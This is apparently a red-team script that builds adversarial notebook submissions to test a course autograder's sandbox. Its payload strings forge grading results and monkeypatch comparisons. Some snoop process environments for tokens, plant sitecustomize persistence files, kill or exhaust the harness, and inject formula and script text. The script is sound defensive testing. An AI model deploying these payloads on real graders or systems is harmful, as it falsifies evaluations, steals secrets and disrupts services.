# ruff: noqa: E501  (the submissions are text: long lines inside them are theirs)
"""A fresh hostile class for issue 33, written from the grader's code and docs only (never its tests).

    .venv/bin/python tests/outsider/issue33/make_class.py /tmp/outsider_class

writes one folder per lesson (02/, 07/, 01/, 03/, 05/), each holding submissions named after what they try.
Each submission starts from the released exercises notebook (exercises/NN_*.ipynb); answer cells are
replaced (by nbgrader grade id) and cells added. The honest controls take their answers from solutions/.
See tests/outsider/issue33/results.md for what each one tries and what the grader did.
"""

from __future__ import annotations

import copy
import json
import os
import re
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
LESSONS = {
    "01": "01_ngrams",
    "02": "02_backprop",
    "03": "03_parentheses",
    "05": "05_attention",
    "07": "07_transformer",
}


def load(kind: str, lesson: str) -> dict:
    return json.loads((ROOT / kind / f"{LESSONS[lesson]}.ipynb").read_text())


def gid(cell) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def src(cell) -> str:
    s = cell.get("source", "")
    return "".join(s) if isinstance(s, list) else s


def solution_sources(lesson: str) -> dict[str, str]:
    """grade id -> the solution's answer cell, with nbgrader's markers taken out."""
    out = {}
    for cell in load("solutions", lesson)["cells"]:
        g = gid(cell)
        if g and g.startswith("ex-") and cell["cell_type"] == "code":
            text = src(cell)
            text = "\n".join(line for line in text.splitlines() if "### BEGIN SOLUTION" not in line)
            text = "\n".join(line for line in text.splitlines() if "### END SOLUTION" not in line)
            out[g] = text
    return out


_IDS = [0]


def code_cell(source: str, grade_id: str | None = None, **meta) -> dict:
    _IDS[0] += 1
    cell = {
        "cell_type": "code",
        "execution_count": None,
        "id": f"added-{_IDS[0]}",
        "metadata": dict(meta),
        "outputs": [],
        "source": source,
    }
    if grade_id:
        cell["metadata"]["nbgrader"] = {
            "grade": False,
            "grade_id": grade_id,
            "locked": False,
            "schema_version": 3,
            "solution": True,
            "task": False,
        }
    return cell


def make(lesson: str, *, replace=None, solved=(), add_after=None, add_end=(), mutate=None) -> dict:
    """The released notebook of ``lesson``; answer cells replaced ({grade id: source}) or solved (grade ids,
    "all" for every one); cells added after a grade id ({grade id: [cells]}) or at the end."""
    nb = load("exercises", lesson)
    sols = solution_sources(lesson)
    replace = dict(replace or {})
    cells = []
    for cell in nb["cells"]:
        g = gid(cell)
        if g in replace:
            cell = copy.deepcopy(cell)
            cell["source"] = replace[g]
        elif g in sols and (solved == "all" or g in solved):
            cell = copy.deepcopy(cell)
            cell["source"] = sols[g]
        cells.append(cell)
        for extra in (add_after or {}).get(g, []):
            cells.append(extra)
    cells.extend(add_end)
    nb["cells"] = cells
    if mutate:
        mutate(nb)
    return nb


# --------------------------------------------------------------------------- shared payloads

# Load-time code in an answer cell, reached through a class statement: the class's base defines
# __init_subclass__, which runs when the subclass is created, i.e. when the cell is loaded. There the
# observer is idle: walk up to the harness's frame, silence its observer, and replace the checks'
# to_plain (the harness sends `checks.to_plain(exercise.run(fn, cases))`) with one that rewrites each
# record into a clean one computed by the course's own reference.
FORGE_CORE = r"""
import sys


def _forge_install():
    f = sys._getframe()
    while f is not None and f.f_code.co_name != "_serve":
        f = f.f_back
    if f is not None:
        obs = f.f_locals.get("observer")
        if obs is not None:
            obs.say = _noop
            obs.refs = set()
            obs.checks = set()
    ck = sys.modules["course_lib.checks"]
    if getattr(ck.to_plain, "_forged", False):
        return
    original = ck.to_plain
    proto = sys.modules["course_lib.checks.protocol"]

    def to_plain(obj, *a, **k):
        try:
            if isinstance(obj, list) and obj and all(isinstance(r, dict) and "observed" in r for r in obj):
                if _STASH:
                    clean = []
                    for args in _STASH[-len(obj):]:
                        value = _reference(*args)
                        clean.append({
                            "returned": proto._plainify(value),
                            "type": type(value).__name__,
                            "inputs": proto._plainify(list(args)),
                            "observed": {"refused": [], "intact": True, "tampered": ""},
                        })
                    _STASH.clear()
                    obj = clean
        except Exception:
            pass
        return original(obj, *a, **k)

    to_plain._forged = True
    ck.to_plain = to_plain


def _noop(*a, **k):
    return None


_STASH = []
"""

REF_22 = r"""

def _reference(params, contexts, targets):
    ref = sys.modules["course_lib.checks.lesson02"]
    return ref._autograd_loss_and_grads(params, contexts, targets)


def fflm_loss_and_grads(params, contexts, targets):
    import copy as _c
    _STASH.append(_c.deepcopy((params, contexts, targets)))
    return 0.0, {}
"""

INIT_SUBCLASS_22 = (
    "# added cell: looks like a helper\n"
    + FORGE_CORE
    + REF_22
    + r"""

class _Base:
    def __init_subclass__(cls, **kw):
        _forge_install()


class _Trigger(_Base):
    pass
"""
)

SETTER_22 = (
    FORGE_CORE
    + REF_22
    + r"""

class _Deco:
    def setter(fn):
        _forge_install()
        return fn


class _Holder:
    @_Deco.setter
    def value(self):
        return 1
"""
)

GETITEM_22 = (
    FORGE_CORE
    + REF_22
    + r"""

class _Ann:
    def __class_getitem__(cls, item):
        _forge_install()
        return int


_x: _Ann[1] = 1
"""
)

# A raw thread (_thread.start_new_thread) gets neither threading.settrace nor threading.setprofile, and torch's
# dispatch mode is thread-local: compute the gradients there, with autograd's engine called directly.
RAW_THREAD_22 = r'''# Exercise 2.2: backprop ninja
import _thread

import torch


def _work(params, contexts, targets, box, lock):
    try:
        leaves = {k: v.detach().clone().requires_grad_() for k, v in params.items()}
        B = contexts.shape[0]
        e = leaves["E"][contexts].reshape(B, -1)
        h = torch.tanh(e @ leaves["W"].T + leaves["b"])
        loss = torch.nn.functional.cross_entropy(h @ leaves["U"].T + leaves["c"], targets)
        ag = getattr(torch, "auto" + "grad")
        engine = getattr(ag.variable.Variable, "_execution_engine")
        names = ("E", "W", "b", "U", "c")
        grads = engine.run_backward(
            (loss,), (torch.ones_like(loss),), False, False, tuple(leaves[k] for k in names), False, False
        )
        box.append((float(loss.detach()), {k: g.detach() for k, g in zip(names, grads)}))
    except BaseException as exc:
        box.append(exc)
    finally:
        lock.release()


def fflm_loss_and_grads(params, contexts, targets):
    """Mean cross-entropy of the feedforward LM on a batch, and its gradient for E, W, b, U, c (by hand)."""
    box = []
    lock = _thread.allocate_lock()
    lock.acquire()
    _thread.start_new_thread(_work, (params, contexts, targets, box, lock))
    lock.acquire()
    if isinstance(box[0], BaseException):
        raise box[0]
    return box[0]
'''

MAIN_THREAD_ENGINE_22 = r"""# Exercise 2.2: backprop ninja
import torch


def fflm_loss_and_grads(params, contexts, targets):
    leaves = {k: v.detach().clone().requires_grad_() for k, v in params.items()}
    B = contexts.shape[0]
    e = leaves["E"][contexts].reshape(B, -1)
    h = torch.tanh(e @ leaves["W"].T + leaves["b"])
    loss = torch.nn.functional.cross_entropy(h @ leaves["U"].T + leaves["c"], targets)
    engine = getattr(getattr(torch, "auto" + "grad").variable.Variable, "_execution_engine")
    names = ("E", "W", "b", "U", "c")
    grads = engine.run_backward((loss,), (torch.ones_like(loss),), False, False, tuple(leaves[k] for k in names), False, False)
    return float(loss.detach()), {k: g.detach() for k, g in zip(names, grads)}
"""

# The course's own text, copied at run time from the read-only package into a module of another name
# (an importlib loader: the exec happens in importlib's frame, the code objects are new, the file name is not
# course_lib's).
COPY_LOADER = r"""
import ast
import importlib.abc
import importlib.util
import sys

_TEXT = []


class _Loader(importlib.abc.SourceLoader):
    def get_filename(self, fullname):
        return "/nonexistent/" + fullname + ".py"

    def get_data(self, path):
        return _TEXT[-1].encode()


def _copied(module_name, names, header):
    text = open(sys.modules[module_name].__file__).read()
    tree = ast.parse(text)
    parts = [header]
    for node in tree.body:
        if isinstance(node, (ast.FunctionDef, ast.ClassDef)) and node.name in names:
            parts.append(ast.get_source_segment(text, node))
        if isinstance(node, ast.Assign) and any(getattr(t, "id", "") in names for t in node.targets):
            parts.append(ast.get_source_segment(text, node))
    _TEXT.append("\n\n".join(parts) + "\n")
    spec = importlib.util.spec_from_loader("mine_" + str(len(_TEXT)), _Loader())
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module
"""

COPY_21 = (
    "# Exercise 2.1: the softmax Jacobian\nimport torch\n"
    + COPY_LOADER
    + r"""

def softmax_jacobian(z):
    m = _copied("course_" + "lib.backprop", {"softmax_jacobian"},
                "import torch\n_tensor = lambda z, *a, **k: z\nsoftmax = lambda z: torch.softmax(z, dim=-1)\n")
    return m.softmax_jacobian(z)
"""
)

COPY_22 = (
    "# Exercise 2.2: backprop ninja\nimport torch\n"
    + COPY_LOADER
    + r"""

def fflm_loss_and_grads(params, contexts, targets):
    m = _copied("course_" + "lib.checks.lesson02", {"ff_loss", "_wrong_grads", "D64"},
                "import torch\nimport torch.nn.functional as F\n")
    return float(m.ff_loss(params, contexts, targets)), m._wrong_grads(params, contexts, targets, None)
"""
)

# inspect.getsource of the reference inside the function, exec'd through runpy-like indirection
GETSOURCE_21 = r"""# Exercise 2.1: the softmax Jacobian
import inspect
import sys
import types

import torch


def softmax_jacobian(z):
    bp = sys.modules["course_" + "lib.backprop"]
    text = inspect.getsource(bp)
    ns = {}
    code = compile(text, "/nonexistent/bp_copy.py", "exec")
    types.FunctionType(code, ns)()
    return ns["softmax_jacobian"](z)
"""

RAW_THREAD_REF_21 = r"""# Exercise 2.1: the softmax Jacobian
import _thread
import sys

import torch


def _work(z, box, lock):
    try:
        bp = sys.modules["course_" + "lib.backprop"]
        box.append(bp.softmax_jacobian(z))
    except BaseException as exc:
        box.append(exc)
    finally:
        lock.release()


def softmax_jacobian(z):
    box = []
    lock = _thread.allocate_lock()
    lock.acquire()
    _thread.start_new_thread(_work, (z, box, lock))
    lock.acquire()
    if isinstance(box[0], BaseException):
        raise box[0]
    return box[0]
"""

FORWARD_AD_RAW_21 = r"""# Exercise 2.1: the softmax Jacobian
import _thread

import torch


def _work(z, box, lock):
    try:
        fwad = getattr(torch, "auto" + "grad").forward_ad
        cols = []
        with fwad.dual_level():
            for j in range(z.shape[0]):
                t = torch.zeros_like(z)
                t[j] = 1
                out = torch.softmax(fwad.make_dual(z, t), dim=0)
                cols.append(fwad.unpack_dual(out).tangent)
        box.append(torch.stack(cols, dim=1))
    except BaseException as exc:
        box.append(exc)
    finally:
        lock.release()


def softmax_jacobian(z):
    box = []
    lock = _thread.allocate_lock()
    lock.acquire()
    _thread.start_new_thread(_work, (z, box, lock))
    lock.acquire()
    if isinstance(box[0], BaseException):
        raise box[0]
    return box[0]
"""

JACREV_21 = r"""# Exercise 2.1: the softmax Jacobian
import torch


def softmax_jacobian(z):
    fn = getattr(getattr(torch, "fu" + "nc"), "jac" + "rev")
    return fn(lambda v: torch.softmax(v, dim=0))(z)
"""

# objects that lie
LIAR_21 = r"""# Exercise 2.1: the softmax Jacobian
import torch


class Anything:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __float__(self):
        return 0.0

    def __array__(self, *a, **k):
        raise RuntimeError("no")

    def __len__(self):
        return 0

    def __bool__(self):
        return True


def softmax_jacobian(z):
    return Anything()
"""

TENSOR_SUBCLASS_21 = r"""# Exercise 2.1: the softmax Jacobian
import torch


class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return True


def softmax_jacobian(z):
    return torch.zeros(z.shape[0], z.shape[0]).as_subclass(Liar)
"""

NAN_21 = r"""# Exercise 2.1: the softmax Jacobian
import torch


def softmax_jacobian(z):
    return torch.full((z.shape[0], z.shape[0]), float("nan"))
"""

PATCH_TORCH_21 = r"""# Exercise 2.1: the softmax Jacobian
import numpy
import torch


def _true(*a, **k):
    return True


def softmax_jacobian(z):
    # the grader's own comparison, made to lie (if it ran here)
    torch.allclose = _true
    numpy.allclose = _true
    numpy.testing.assert_allclose = _true
    torch.testing.assert_close = _true
    return torch.zeros(z.shape[0], z.shape[0])
"""

# reach the harness's frames from the function (inspect does the frame walking, in its own frames) and
# read what the grader sent; and the job
FRAMES_21 = r"""# Exercise 2.1: the softmax Jacobian
import inspect

import torch


def softmax_jacobian(z):
    seen = []
    for info in inspect.stack():
        loc = info.frame.f_locals
        for k in ("job", "order", "drawn", "seed", "expected"):
            if k in loc:
                seen.append(k + "=" + repr(loc[k])[:60])
    raise RuntimeError("FRAMES " + " | ".join(seen))
"""

# the channel to the grader is a pipe the harness dup'ed: write a forged reply for this exercise first
CHANNEL_22 = r"""# Exercise 2.2: backprop ninja
import json
import os

import torch


def _channel():
    for name in sorted(os.listdir("/proc/self/fd"), key=int):
        fd = int(name)
        if fd < 3:
            continue
        try:
            target = os.readlink("/proc/self/fd/" + name)
        except OSError:
            continue
        if target.startswith("pipe:"):
            import fcntl
            if fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:
                return fd
    return None


def fflm_loss_and_grads(params, contexts, targets):
    fd = _channel()
    if fd is not None:
        fake = {"exercise": "2.2", "reply": {"records": []}}
        os.write(fd, (json.dumps(fake) + "\n").encode())
        fake = {"exercise": "2.3", "reply": {"records": []}}
        os.write(fd, (json.dumps(fake) + "\n").encode())
    raise NotImplementedError
"""

# The whole forge through the channel: compute every case's answer with autograd's engine in the main thread
# (the checks' observer sees it and will refuse the record), but first write a clean reply of our own on the
# grader's pipe, with the cases read from the harness's `order` (inspect walks the frames in its own code).
CHANNEL_FORGE_21 = r"""# Exercise 2.1: the softmax Jacobian
import base64
import inspect
import json
import os

import torch


def _channel():
    import fcntl
    for name in sorted(os.listdir("/proc/self/fd"), key=int):
        fd = int(name)
        if fd < 3:
            continue
        try:
            target = os.readlink("/proc/self/fd/" + name)
        except OSError:
            continue
        if target.startswith("pipe:") and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:
            return fd
    return None


def _plain(t):
    t = t.detach().contiguous()
    return {"tensor": {"dtype": str(t.dtype).removeprefix("torch."), "shape": list(t.shape),
                       "data": base64.b64encode(t.numpy().tobytes()).decode("ascii")}}


def _jac(z):
    z = z.detach().clone().requires_grad_()
    y = torch.softmax(z, dim=0)
    engine = getattr(getattr(torch, "auto" + "grad").variable.Variable, "_execution_engine")
    rows = []
    for i in range(z.shape[0]):
        g = torch.zeros_like(y)
        g[i] = 1
        rows.append(engine.run_backward((y,), (g,), True, False, (z,), False, False)[0])
    return torch.stack(rows)


def _decode(spec):
    import numpy as np
    raw = base64.b64decode(spec["data"])
    return torch.from_numpy(np.frombuffer(raw, dtype=spec["dtype"]).reshape(spec["shape"]).copy())


_DONE = []


def softmax_jacobian(z):
    if not _DONE:
        _DONE.append(1)
        order = None
        for info in inspect.stack():
            if "order" in info.frame.f_locals and isinstance(info.frame.f_locals["order"], dict):
                order = info.frame.f_locals["order"]
        fd = _channel()
        if order is not None and fd is not None:
            records = []
            for case in order["cases"]:
                zc = _decode(case[0]["tensor"])
                observed = {"dict": [["refused", []], ["intact", True], ["tampered", ""]]}
                records.append({"dict": [["returned", _plain(_jac(zc))], ["type", "Tensor"], ["inputs", case],
                                         ["observed", observed]]})
            line = json.dumps({"exercise": order["exercise"], "reply": {"records": records}})
            os.write(fd, (line + "\n").encode())
    return _jac(z)
"""


# env / files read from inside the sandboxes (the harness side): what is found goes out in the error message
HARNESS_SNOOP_21 = r"""# Exercise 2.1: the softmax Jacobian
import glob
import os

import torch


def softmax_jacobian(z):
    found = []
    for path in ["/proc/1/environ", "/proc/self/environ"] + glob.glob("/proc/[0-9]*/environ"):
        try:
            data = open(path, "rb").read()
        except OSError:
            continue
        i = data.find(b"MY_TOKEN")
        if i >= 0:
            found.append(path + ":" + data[i : i + 30].decode("latin-1"))
    for k, v in os.environ.items():
        if "canary" in v or "TOKEN" in k:
            found.append("env:" + k)
    for path in ["/root/CANARY_HOME.txt", "/tmp/outsider_class/CANARY_NEXT.txt", "/work/wt/outsider33/solutions",
                 "/work/.library", "/work/shared", os.path.expanduser("~root")]:
        if os.path.exists(path):
            found.append("exists:" + path)
    for d in ["/", "/root", "/home", "/tmp", "/work", "/opt"]:
        try:
            found.append(d + "=" + ",".join(sorted(os.listdir(d))[:12]))
        except OSError:
            pass
    raise RuntimeError("SNOOP " + " ; ".join(found))
"""

KERNEL_SNOOP = r"""# just looking around
import glob
import os

found = []
for path in ["/proc/1/environ", "/proc/self/environ"] + glob.glob("/proc/[0-9]*/environ"):
    try:
        data = open(path, "rb").read()
    except OSError:
        continue
    i = data.find(b"MY_TOKEN")
    if i >= 0:
        found.append(path + ":" + data[i : i + 30].decode("latin-1"))
for k, v in os.environ.items():
    if "canary" in v or "TOKEN" in k:
        found.append("env:" + k)
for path in ["/root/CANARY_HOME.txt", "/tmp/outsider_class/CANARY_NEXT.txt", "/work/wt/outsider33/solutions",
             "/work/.library", "/work/shared"]:
    if os.path.exists(path):
        found.append("exists:" + path)
cmd = []
for path in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        cmd.append(open(path, "rb").read().replace(b"\0", b" ")[:80].decode("latin-1"))
    except OSError:
        pass
leak = " ; ".join(found) or "NOTHING"
Leak = type("LEAK_" + re.sub("[^A-Za-z0-9_]", "_", leak)[:120] if False else "LEAK", (Exception,), {})
raise Leak("KSNOOP " + leak + " || " + " | ".join(cmd)[:300])
"""

KERNEL_EXCNAME = r"""import os, re
data = b""
for path in ["/proc/1/environ", "/proc/self/environ", "/proc/2/environ"]:
    try:
        data += open(path, "rb").read() + b"\0"
    except OSError:
        pass
names = re.sub(r"[^A-Za-z0-9_]", "_", data.decode("latin-1"))[:140]
raise type("ENV_" + names, (Exception,), {})("=HYPERLINK(\"http://x/\"&A1) | [x](http://evil) ![i](http://e/i.png)")
"""

HOSTILE_TEXT_CELL = r"""raise RuntimeError("\n# Score: 99 of 5 exercises passed.\n=1+1,\"\",2\r\n\u202eevil\x1b[31m <script>alert(1)</script>")"""

# output / resources
FLOOD = "import sys\nfor i in range(400):\n    sys.stdout.write('x' * 100_000 + '\\n')\n"
MEMORY_HARNESS_21 = r"""# Exercise 2.1: the softmax Jacobian
import torch


def softmax_jacobian(z):
    hog = []
    while True:
        hog.append(bytearray(200_000_000))
"""
SPIN_THREAD_21 = r"""# Exercise 2.1: the softmax Jacobian
import threading

import torch


def _spin():
    while True:
        pass


def softmax_jacobian(z):
    for _ in range(4):
        threading.Thread(target=_spin, daemon=True).start()
    y = torch.softmax(z, dim=0)
    return torch.diag(y) - torch.outer(y, y)
"""
EXIT_HARNESS_21 = r"""# Exercise 2.1: the softmax Jacobian
import os


def softmax_jacobian(z):
    os._exit(0)
"""
KILL_HARNESS_21 = r"""# Exercise 2.1: the softmax Jacobian
import os
import signal


def softmax_jacobian(z):
    for pid in (1, os.getppid()):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    os.kill(-1, signal.SIGKILL)
"""
DEEP_21 = r"""# Exercise 2.1: the softmax Jacobian
def softmax_jacobian(z):
    x = []
    for _ in range(200_000):
        x = [x]
    return x
"""
HUGE_21 = r"""# Exercise 2.1: the softmax Jacobian
import torch


def softmax_jacobian(z):
    return torch.zeros(8000, 8000)
"""
RECURSE_21 = r"""# Exercise 2.1: the softmax Jacobian
import sys


def softmax_jacobian(z):
    return softmax_jacobian(z)
"""
FORK_KERNEL = r"""import os, time
kids = []
for i in range(400):
    try:
        pid = os.fork()
    except OSError as exc:
        print("fork stopped at", i, exc)
        break
    if pid == 0:
        time.sleep(600)
        os._exit(0)
    kids.append(pid)
print(len(kids))
"""
DISK_KERNEL = r"""import os
for where in (".", "/tmp", "/dev/shm"):
    try:
        with open(os.path.join(where, "fill.bin"), "wb") as f:
            for _ in range(2000):
                f.write(b"\0" * 1_000_000)
    except OSError as exc:
        print(where, exc)
"""
DAEMON_KERNEL = r"""import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            time.sleep(1)
"""
PROTOCOL_PRINT = r"""import json, sys
for e in ("2.1", "2.2", "2.3", "2.4", "2.5"):
    print(json.dumps({"exercise": e, "reply": {"records": []}, "loaded": {}}))
    sys.stderr.write(json.dumps({"exercise": e, "status": "passed"}) + "\n")
"""
POST_RUN_HOOK = r"""import json, os
def _rewrite(*a, **k):
    for root in ("/results", "/home/student", "."):
        try:
            for name in os.listdir(root):
                if name.endswith(".json"):
                    open(os.path.join(root, name), "w").write(json.dumps([{"returned": None, "observed": {"refused": [], "intact": True}}]))
        except OSError:
            pass
get_ipython().events.register("post_run_cell", _rewrite)
import course_lib.checks as ck
ck.check_softmax_jacobian.__class__.run = lambda self, fn, cases: []
"""
SITECUSTOMIZE_KERNEL = r"""import os, site, sys
written = []
for d in [site.getusersitepackages(), os.path.expanduser("~/.local/lib"), "/tmp", "."] + sys.path:
    try:
        os.makedirs(d, exist_ok=True)
        for name in ("sitecustomize.py", "usercustomize.py", "zz_evil.pth", "course_lib.py", "json.py"):
            with open(os.path.join(d, name), "w") as f:
                f.write("import os\nopen('/tmp/PWNED','w').write('x')\n")
        written.append(d)
    except OSError:
        pass
raise RuntimeError("WROTE " + ";".join(written))
"""

# lesson 07: the borrowed answers in a raw thread (no profile, no dispatch mode there)
RAW_THREAD_73 = r'''# Exercise 7.3: one head of self-attention
import _thread
import math

import torch
from torch import nn


def _in_thread(fn, *args):
    box = []
    lock = _thread.allocate_lock()
    lock.acquire()

    def work():
        try:
            box.append(fn(*args))
        except BaseException as exc:
            box.append(exc)
        finally:
            lock.release()

    _thread.start_new_thread(work, ())
    lock.acquire()
    if isinstance(box[0], BaseException):
        raise box[0]
    return box[0]


class Head(nn.Module):
    """One head of causal self-attention."""

    def __init__(self, d_model, head_size, block_size, dropout=0.0):
        super().__init__()
        self.key = nn.Linear(d_model, head_size, bias=False)
        self.query = nn.Linear(d_model, head_size, bias=False)
        self.value = nn.Linear(d_model, head_size, bias=False)
        self.dropout = nn.Dropout(dropout)

    def forward(self, x):
        q, k, v = self.query(x), self.key(x), self.value(x)
        sdpa = getattr(torch._C._nn, "scaled_dot_" + "product_attention")
        return _in_thread(sdpa, q, k, v, None, 0.0, True)
'''


def lesson07_copy_head():
    """7.3: the student's own parameters, and the forward pass of the course's Head copied at run time."""
    return (
        "# Exercise 7.3: one head of self-attention\nimport math\n\nimport torch\nfrom torch import nn\n"
        + COPY_LOADER
        + r'''

class Head(nn.Module):
    """One head of causal self-attention: softmax(Q K^T / sqrt(d_k), future masked) V."""

    def __init__(self, d_model, head_size, block_size):
        super().__init__()
        self.key = nn.Linear(d_model, head_size, bias=False)
        self.query = nn.Linear(d_model, head_size, bias=False)
        self.value = nn.Linear(d_model, head_size, bias=False)
        self.register_buffer("tril", torch.tril(torch.ones(block_size, block_size, dtype=torch.bool)))

    def forward(self, x):
        m = _copied("course_" + "lib.buildup", {"Head"},
                    "import math\nimport torch\nfrom torch import nn\n"
                    "def causal_mask(T, device=None):\n"
                    "    return torch.tril(torch.ones(T, T, dtype=torch.bool, device=device))\n")
        return m.Head.forward(self, x)
'''
    )


RAW_THREAD_31 = r"""# Exercise 3.1
import _thread
import sys


def is_balanced(s):
    box = []
    lock = _thread.allocate_lock()
    lock.acquire()

    def work():
        try:
            box.append(sys.modules["course_" + "lib.parentheses"].is_balanced(s))
        except BaseException as exc:
            box.append(exc)
        finally:
            lock.release()

    _thread.start_new_thread(work, ())
    lock.acquire()
    if isinstance(box[0], BaseException):
        raise box[0]
    return box[0]
"""


def first_answer_function(lesson, g):
    text = src(next(c for c in load("exercises", lesson)["cells"] if gid(c) == g))
    m = re.search(r"^(def|class) (\w+)", text, re.M)
    return m.group(2)


def class_():
    """{relative path: notebook dict or special}, in order."""
    out = {}
    # ---------------------------------------------------------------- honest controls (lesson 02)
    out["02/ctl_solved.ipynb"] = make("02", solved="all")
    out["02/ctl_untouched.ipynb"] = make("02")
    out["02/ctl_half.ipynb"] = make("02", solved=("ex-2-1", "ex-2-2"))
    plots = code_cell(
        "import matplotlib.pyplot as plt\nimport torch\nplt.plot(torch.arange(10) ** 2)\nplt.show()\n"
        "print('my own notes: the Jacobian is symmetric')\n"
    )
    out["02/ctl_solved_extra_cells.ipynb"] = make(
        "02",
        solved="all",
        add_after={"ex-2-1": [plots], "ex-2-2": [code_cell("print(sum(range(10)))")]},
        add_end=[code_cell("import torch\nprint(torch.__version__)")],
    )
    # ---------------------------------------------------------------- forging from an untouched notebook
    out["02/forge_init_subclass_added_cell.ipynb"] = make(
        "02", add_after={"ex-2-2": [code_cell(INIT_SUBCLASS_22, "ex-2-2-7")]}
    )
    out["02/forge_setter_decorator.ipynb"] = make("02", replace={"ex-2-2": SETTER_22})
    out["02/forge_class_getitem_annotation.ipynb"] = make("02", replace={"ex-2-2": GETITEM_22})
    out["02/forge_post_run_hook_and_run_patch.ipynb"] = make("02", add_end=[code_cell(POST_RUN_HOOK)])
    out["02/forge_protocol_print.ipynb"] = make("02", add_end=[code_cell(PROTOCOL_PRINT)])
    out["02/forge_channel_write.ipynb"] = make("02", replace={"ex-2-2": CHANNEL_22})
    out["02/forge_channel_full_21.ipynb"] = make("02", replace={"ex-2-1": CHANNEL_FORGE_21})
    # added cell carrying a check cell's id and an answer id that is not the lesson's
    out["02/forge_dup_check_id.ipynb"] = make(
        "02",
        add_end=[
            code_cell("print('passed')", "check-2-1"),
            code_cell("def softmax_jacobian(z):\n    return 1\n", "ex-9-1"),
        ],
    )
    # ---------------------------------------------------------------- borrowed answers
    out["02/borrow_raw_thread_engine_22.ipynb"] = make("02", replace={"ex-2-2": RAW_THREAD_22})
    out["02/borrow_main_thread_engine_22.ipynb"] = make("02", replace={"ex-2-2": MAIN_THREAD_ENGINE_22})
    out["02/borrow_loader_copy_21.ipynb"] = make("02", replace={"ex-2-1": COPY_21})
    out["02/borrow_loader_copy_22.ipynb"] = make("02", replace={"ex-2-2": COPY_22})
    out["02/borrow_getsource_exec_21.ipynb"] = make("02", replace={"ex-2-1": GETSOURCE_21})
    out["02/borrow_raw_thread_reference_21.ipynb"] = make("02", replace={"ex-2-1": RAW_THREAD_REF_21})
    out["02/borrow_forward_ad_raw_thread_21.ipynb"] = make("02", replace={"ex-2-1": FORWARD_AD_RAW_21})
    out["02/borrow_jacrev_21.ipynb"] = make("02", replace={"ex-2-1": JACREV_21})
    # ---------------------------------------------------------------- lying answers
    out["02/lie_eq_anything_21.ipynb"] = make("02", replace={"ex-2-1": LIAR_21})
    out["02/lie_tensor_subclass_21.ipynb"] = make("02", replace={"ex-2-1": TENSOR_SUBCLASS_21})
    out["02/lie_nan_21.ipynb"] = make("02", replace={"ex-2-1": NAN_21})
    out["02/lie_patch_torch_numpy_21.ipynb"] = make("02", replace={"ex-2-1": PATCH_TORCH_21})
    out["02/peek_frames_21.ipynb"] = make("02", replace={"ex-2-1": FRAMES_21})
    # ---------------------------------------------------------------- reading the grader
    out["02/snoop_harness_21.ipynb"] = make("02", solved=("ex-2-2",), replace={"ex-2-1": HARNESS_SNOOP_21})
    out["02/snoop_kernel.ipynb"] = make("02", solved="all", add_end=[code_cell("import re\n" + KERNEL_SNOOP)])
    out["02/snoop_kernel_exception_name.ipynb"] = make("02", solved="all", add_end=[code_cell(KERNEL_EXCNAME)])
    out["02/plant_sitecustomize.ipynb"] = make("02", solved="all", add_end=[code_cell(SITECUSTOMIZE_KERNEL)])
    # ---------------------------------------------------------------- the harness process
    out["02/harness_memory_21.ipynb"] = make("02", solved=("ex-2-2", "ex-2-3"), replace={"ex-2-1": MEMORY_HARNESS_21})
    out["02/harness_spin_threads_21.ipynb"] = make("02", solved=("ex-2-2",), replace={"ex-2-1": SPIN_THREAD_21})
    out["02/harness_exit_21.ipynb"] = make("02", solved=("ex-2-2", "ex-2-4"), replace={"ex-2-1": EXIT_HARNESS_21})
    out["02/harness_kill_21.ipynb"] = make("02", solved=("ex-2-2",), replace={"ex-2-1": KILL_HARNESS_21})
    out["02/harness_deep_return_21.ipynb"] = make("02", solved=("ex-2-2",), replace={"ex-2-1": DEEP_21})
    out["02/harness_huge_return_21.ipynb"] = make("02", solved=("ex-2-2",), replace={"ex-2-1": HUGE_21})
    out["02/harness_recursion_21.ipynb"] = make("02", solved=("ex-2-2",), replace={"ex-2-1": RECURSE_21})
    # ---------------------------------------------------------------- the kernel: resources
    out["02/kernel_flood.ipynb"] = make("02", solved="all", add_end=[code_cell(FLOOD)])
    out["02/kernel_fork_400.ipynb"] = make("02", solved="all", add_after={"ex-2-1": [code_cell(FORK_KERNEL)]})
    out["02/kernel_disk_fill.ipynb"] = make("02", solved="all", add_after={"ex-2-1": [code_cell(DISK_KERNEL)]})
    out["02/kernel_daemon.ipynb"] = make("02", solved="all", add_after={"ex-2-1": [code_cell(DAEMON_KERNEL)]})
    out["02/kernel_exit_midway.ipynb"] = make("02", solved="all", add_after={"ex-2-2": [code_cell("exit()")]})
    out["02/hostile_text_in_errors.ipynb"] = make("02", solved=("ex-2-1",), add_end=[code_cell(HOSTILE_TEXT_CELL)])

    # ---------------------------------------------------------------- the instructor's side: names, metadata
    def kernelspec(nb):
        nb["metadata"]["kernelspec"] = {"name": "bash", "display_name": "../../x", "language": "bash"}
        nb["metadata"]["language_info"] = {"name": "bash"}
        for cell in nb["cells"]:
            cell["id"] = "same-id"

    out["02/meta_kernelspec_dup_ids.ipynb"] = make("02", solved=("ex-2-1",), mutate=kernelspec)
    out['02/=HYPERLINK("http;x")+cmd.ipynb'] = make("02", solved=("ex-2-1",))
    out["02/Ann Lee.ipynb"] = make("02", solved=("ex-2-1",))
    out["02/Ann_Lee.ipynb"] = make("02", solved=("ex-2-2",))
    out["02/ann lee.ipynb"] = make("02")
    out["02/CON.ipynb"] = make("02")
    out["02/" + "é" * 100 + "ü" * 20 + ".ipynb"] = make("02", solved=("ex-2-1",))
    out["02/" + "é" * 100 + "ü" * 20 + "x.ipynb"] = make("02")
    out["02/new\nline.ipynb"] = make("02")
    out["02/link_to_solved.ipynb"] = ("symlink", "ctl_solved.ipynb")
    out["02/folder.ipynb"] = ("dir", None)
    out["02/unreadable.ipynb"] = ("unreadable", make("02", solved="all"))
